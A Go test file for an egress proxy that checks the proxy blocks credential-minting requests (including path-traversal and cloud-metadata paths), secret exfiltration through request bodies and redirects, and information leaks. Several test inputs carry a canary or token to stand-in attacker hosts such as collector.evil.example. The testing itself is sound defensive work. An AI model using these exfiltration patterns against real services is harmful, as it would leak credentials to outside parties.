package proxy_test

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"math/rand/v2"
	"net"
	"net/http"
	"net/netip"
	"regexp"
	"strings"
	"testing"

	"bottled/attack"
	"bottled/audit"
	"bottled/upstreamtest"
)

// A credential that an allowed endpoint would hand out, or change, is out of reach where
// the route names what it is for: paths, methods, or both.
func TestAttackMintingEndpoints(t *testing.T) {
	const auth = `"auth_scheme": "Bearer", "token_env": "EGRESS_PROXY_TOKEN_0"`
	open := newWorld(t, `{"routes": [{"host": "api.example.com", `+auth+`}]}`)
	paths := newWorld(t, `{"routes": [{"host": "api.example.com", "path_allowlist": ["/repos/acme/", "/user"], "methods": ["GET", "HEAD"], `+auth+`}]}`)
	const minted = "a credential of its own"
	answer := func(rw http.ResponseWriter, r *http.Request) { io.WriteString(rw, minted) }
	ups := map[*world]*upstreamtest.Server{open: open.upstream(answer, "api.example.com"), paths: paths.upstream(answer, "api.example.com")}
	for _, target := range []string{
		"POST /app/installations/1/access_tokens", "POST /user/keys", "PUT /user/keys", "POST /authorizations", "POST /oauth/token", "GET /token",
		"GET /v2/token?service=registry", "POST /repos/acme/x/keys", "PUT /repos/acme/x/actions/secrets/A", "POST /repos/acme/../../app/installations/1/access_tokens",
		"GET /repos/acme/%2e%2e/%2e%2e/authorizations", "GET /USER/keys", "GET /latest/meta-data/iam/security-credentials/", "POST /objects/batch", "POST /graphql",
	} {
		method, path, _ := strings.Cut(target, " ")
		probe := func(w *world) attack.Probe {
			return func(t *testing.T) error {
				before := len(ups[w].Requests())
				reply := raw(t, w.tls("api.example.com", 443, "http/1.1"), method+" "+path+" HTTP/1.1\r\nHost: api.example.com\r\nConnection: close\r\nContent-Length: 0\r\n\r\n")
				if strings.Contains(reply, minted) || len(ups[w].Requests()) > before {
					return nil
				}
				line, _, _ := strings.Cut(reply, "\r\n")
				return errors.New(line)
			}
		}
		control := probe(open)
		if strings.Contains(path, "..") || strings.Contains(path, "%2e") { // as the upstream reads it
			control = func(t *testing.T) error {
				resp, err := open.direct().Post("https://"+ups[open].Addr.String()+path, "text/plain", nil)
				if err == nil {
					resp.Body.Close()
				}
				return err
			}
		}
		attack.Stopped(t, "C06", target, control, probe(paths))
	}
}

// An API that fetches for its caller is asked to carry a secret to somebody else: the
// body is scanned, wherever in it the address stands.
func TestAttackServerSideFetch(t *testing.T) {
	to := "https://collector.evil.example/?d=" + canary
	for name, body := range map[string]any{
		"MCP servers":    map[string]any{"mcp_servers": []any{map[string]any{"type": "url", "url": to}}},
		"an image":       map[string]any{"messages": []any{map[string]any{"content": []any{map[string]any{"image_url": map[string]any{"url": to}}}}}},
		"a webhook":      map[string]any{"config": map[string]any{"url": to, "content_type": "json"}},
		"an import":      map[string]any{"vcs": "git", "vcs_url": "https://x:" + canary + "@evil.example/r.git"},
		"a link preview": map[string]any{"text": "see " + to},
	} {
		text, err := json.Marshal(body)
		if err != nil {
			t.Fatal(err)
		}
		stopped(t, "C07", name, false, request("POST", "https://api.example.com/v1/x", strings.NewReader(string(text)), "Content-Type", "application/json"))
	}
	stopped(t, "C07", "a proxied package", true, request("GET", "https://api.example.com/fetch?url=https%3A%2F%2Fevil.example%2F%3Fd%3D"+canary, nil))
}

// What is encrypted cannot be read; where a route is for reading it does not leave at all.
func TestAttackEncryptedPayload(t *testing.T) {
	noise := make([]byte, 1<<20)
	r := rand.New(rand.NewPCG(1, 2))
	for i := range noise {
		noise[i] = byte(r.Uint32())
	}
	probe := func(w *world, h2 bool) attack.Probe {
		up := w.upstream(func(_ http.ResponseWriter, r *http.Request) { io.Copy(io.Discard, r.Body) }, "api.example.com")
		return func(t *testing.T) error {
			resp, err := w.client(h2).Post("https://api.example.com/x", "application/octet-stream", strings.NewReader(string(noise)))
			if err != nil {
				return err
			}
			resp.Body.Close()
			for _, r := range up.Requests() {
				if len(r.Body) > 0 {
					return nil
				}
			}
			return fmt.Errorf("%s, %d requests reached the upstream", resp.Status, len(up.Requests()))
		}
	}
	for _, h2 := range []bool{false, true} {
		attack.Stopped(t, "L13", fmt.Sprintf("a MiB of noise to a route for reading, h2 %v", h2),
			probe(newWorld(t, bareAPI), h2),
			probe(newWorld(t, `{"routes": [{"host": "api.example.com", "methods": ["GET", "HEAD"]}]}`), h2))
	}
}

// A client that follows a redirect to another allowed host takes no credential along.
func TestAttackRedirectCarry(t *testing.T) {
	const table = `{"routes": [{"host": "api.example.com", "auth_scheme": "Bearer", "token_env": "EGRESS_PROXY_TOKEN_0"}, {"host": "*.api.example.com"}, {"host": "other.example.com"}]}`
	for _, to := range []string{"https://sub.api.example.com/", "https://other.example.com/", "https://api.example.com.:443/", "https://API.example.com/back"} {
		w := newWorld(t, table)
		up := w.upstream(func(rw http.ResponseWriter, r *http.Request) {
			if r.URL.Path == "/start" {
				http.Redirect(rw, r, to, http.StatusTemporaryRedirect)
			}
		}, "api.example.com", "sub.api.example.com", "other.example.com")
		carried := func() error {
			for _, r := range up.Requests() {
				if host, _, _ := strings.Cut(strings.TrimSuffix(r.Host, "."), ":"); !strings.EqualFold(host, "api.example.com") && strings.Contains(fmt.Sprint(r.Header), token) {
					return nil
				}
			}
			return fmt.Errorf("%d requests, the credential in those for its own host only", len(up.Requests()))
		}
		follow := func(c *http.Client, field ...string) error {
			c.CheckRedirect = nil
			req, _ := http.NewRequest("GET", "https://api.example.com/start", nil)
			for _, f := range field {
				req.Header.Set(f, "Bearer "+token)
			}
			resp, err := c.Do(req)
			if err != nil {
				return err
			}
			resp.Body.Close()
			if n := len(up.Requests()); n < 2 {
				t.Errorf("not followed: %d requests, %s", n, resp.Status)
			}
			return carried()
		}
		if strings.Contains(strings.ToLower(to), "/api.example.com") {
			if err := follow(w.client(false)); err == nil || up.Requests()[1].Header.Get("Authorization") != "Bearer "+token {
				t.Errorf("%s: %v", to, err)
			}
			continue
		}
		attack.Stopped(t, "C16", to,
			func(t *testing.T) error { // a client that holds it in a field of its own takes it anywhere
				direct := w.direct()
				direct.Transport.(*http.Transport).DialContext = func(ctx context.Context, network, _ string) (net.Conn, error) {
					return new(net.Dialer).DialContext(ctx, network, up.Addr.String())
				}
				return follow(direct, "X-Api-Key")
			},
			func(t *testing.T) error {
				before := len(up.Requests())
				err := follow(w.client(false))
				for _, r := range up.Requests()[before:] {
					if !strings.HasPrefix(r.Host, "api.") && strings.Contains(fmt.Sprint(r.Header), token) {
						return nil
					}
				}
				if err == nil { // the control's own
					err = errors.New("the credential went to its own host only")
				}
				return err
			})
	}
}

// A refusal is the same for a name that nobody has, for one that another bottle may reach,
// and for one inside of the host's network; none of them is looked up.
func TestAttackDenialOracle(t *testing.T) {
	w := newWorld(t, bareAPI)
	w.resolve["internal.corp.example"] = []netip.Addr{netip.MustParseAddr("10.1.2.3")}
	w.resolve["nobody.example"] = nil
	other := newWorld(t, `{"routes": [{"host": "theirs.example"}]}`)
	other.sink(443, okReply, "theirs.example")
	ids := regexp.MustCompile(`[A-Z2-7]{26}`)
	told := func(host, scheme string) string {
		resp, err := w.client(false).Get(scheme + "://" + host + "/")
		if err != nil {
			return err.Error()
		}
		defer resp.Body.Close()
		body, _ := io.ReadAll(resp.Body)
		resp.Header.Del("Date")
		resp.Header.Del("Content-Length") // that of the host that was asked for is in it
		return ids.ReplaceAllString(strings.ReplaceAll(fmt.Sprintf("%s %v %s", resp.Status, resp.Header, body), host, "HOST"), "ID")
	}
	for _, scheme := range []string{"http", "https"} {
		standard := told("nobody.example", scheme)
		if !strings.HasPrefix(standard, "403") {
			t.Errorf("%q", standard)
		}
		for _, host := range []string{"internal.corp.example", "theirs.example", "localhost.example", "metadata.google.internal.example"} {
			attack.Stopped(t, "M18", scheme+" "+host,
				func(t *testing.T) error { // who may ask can tell them apart
					a, _ := w.LookupNetIP(t.Context(), "ip", "internal.corp.example.")
					b, _ := w.LookupNetIP(t.Context(), "ip", "nobody.example.")
					w.mu.Lock()
					w.asked = nil
					w.mu.Unlock()
					if fmt.Sprint(a) == fmt.Sprint(b) {
						return errors.New("the same answer")
					}
					return nil
				},
				func(t *testing.T) error {
					said := told(host, scheme)
					if len(w.asked) > 0 {
						t.Errorf("looked up %q", w.asked)
					}
					if said != standard {
						t.Logf("%s\ninstead of\n%s", said, standard)
						return nil
					}
					return errors.New("word for word the same")
				})
		}
	}
}

// What the enforcer itself tells afterwards does not hold what an upstream echoed.
func TestAttackEchoInPages(t *testing.T) {
	w := newWorld(t, injecting)
	echo := func(rw http.ResponseWriter, r *http.Request) {
		http.Error(rw, "refused: "+r.Header.Get("Authorization")+" "+r.URL.RawQuery, http.StatusForbidden)
	}
	up := w.upstream(echo, "api.example.com")
	attack.Stopped(t, "L18", "an echo in the pages of the enforcer",
		func(t *testing.T) error {
			req, _ := http.NewRequest("GET", "https://"+up.Addr.String()+"/", nil)
			req.Header.Set("Authorization", "Bearer "+token)
			return echoed(t, w.direct(), req)
		},
		func(t *testing.T) error {
			c := w.client(false)
			resp, said := w.get(c, "https://api.example.com/?q=1")
			all := fmt.Sprint(resp.Header, said)
			w.get(c, "https://evil.example.com/?key="+token)
			var ids []string
			w.mu.Lock()
			for _, e := range w.events {
				ids = append(ids, e.RequestID)
			}
			w.mu.Unlock()
			pages := 0
			for _, path := range append([]string{"allowlist", "healthz", "ca.pem", "decisions/", "metrics", "debug/pprof/", "debug/vars"}, prefixed("decisions/", ids)...) {
				resp, body := w.get(c, "http://_egress-proxy.local/"+path)
				if resp.StatusCode == http.StatusOK {
					pages++
				}
				all += body
			}
			if strings.Contains(all, token) {
				return nil
			}
			if pages < 4 {
				t.Errorf("%d pages", pages)
			}
			return fmt.Errorf("%d pages, it is in none", pages)
		})
}

func prefixed(prefix string, list []string) (out []string) {
	for _, s := range list {
		out = append(out, prefix+s)
	}
	return out
}

// Every request that went out with a credential is in the record, whatever became of it:
// who spends is known.
func TestInjectionsAreRecorded(t *testing.T) {
	w := newWorld(t, injecting)
	up := w.upstream(func(rw http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/abort":
			panic(http.ErrAbortHandler)
		case "/error":
			rw.WriteHeader(http.StatusInternalServerError)
		}
	}, "api.example.com")
	for _, h2 := range []bool{false, true} {
		for _, path := range []string{"/", "/error", "/abort"} {
			if resp, err := w.client(h2).Post("https://api.example.com"+path, "text/plain", strings.NewReader("x")); err == nil {
				resp.Body.Close()
			}
			w.event(func(e audit.Event) bool { return e.Path.String() == path && e.Injected && (e.Protocol == "h2") == h2 })
		}
	}
	w.mu.Lock()
	defer w.mu.Unlock()
	injected := 0
	for _, e := range w.events {
		if e.Injected {
			injected++
		}
	}
	if n := len(up.Requests()); n != injected {
		t.Errorf("%d requests with a credential, %d in the record", n, injected)
	}
}
